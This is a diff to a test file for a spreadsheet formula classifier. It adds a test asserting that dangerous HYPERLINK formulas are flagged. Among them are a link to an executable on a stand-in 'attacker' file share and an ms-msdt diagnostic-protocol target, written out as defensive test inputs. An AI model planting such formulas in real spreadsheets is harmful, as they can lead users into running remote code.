@@ -52,4 +52,24 @@ describe('classifyFormula', () => {
     expect(classifyFormula('"IMAGE(x)"&A1')).toBeUndefined();
     expect(classifyFormula('_xlfn.TEXTJOIN(",",TRUE,A1:A3)')).toBeUndefined();
   });
+
+  it('refuses a HYPERLINK whose written target a hyperlink relationship could not keep', () => {
+    for (const unsafe of [
+      'HYPERLINK("file:///\\\\attacker\\share\\x.exe","Report")',
+      'HYPERLINK( "\\\\attacker\\share" )',
+      'IF(A1,HYPERLINK("ms-msdt:/id PCWDiagnostic"),0)',
+      'HYPERLINK("report.xlsx")',
+    ]) {
+      expect(classifyFormula(unsafe), unsafe).toBe('external-relationship');
+    }
+    for (const kept of [
+      'HYPERLINK("https://example.com/q?a=1","Open")',
+      'HYPERLINK("mailto:"&B2)',
+      'HYPERLINK("#Sheet2!A1","Go")',
+      'HYPERLINK(A2,B2)',
+      '"HYPERLINK(""file://x"")"&A1',
+    ]) {
+      expect(classifyFormula(kept), kept).toBeUndefined();
+    }
+  });
 });
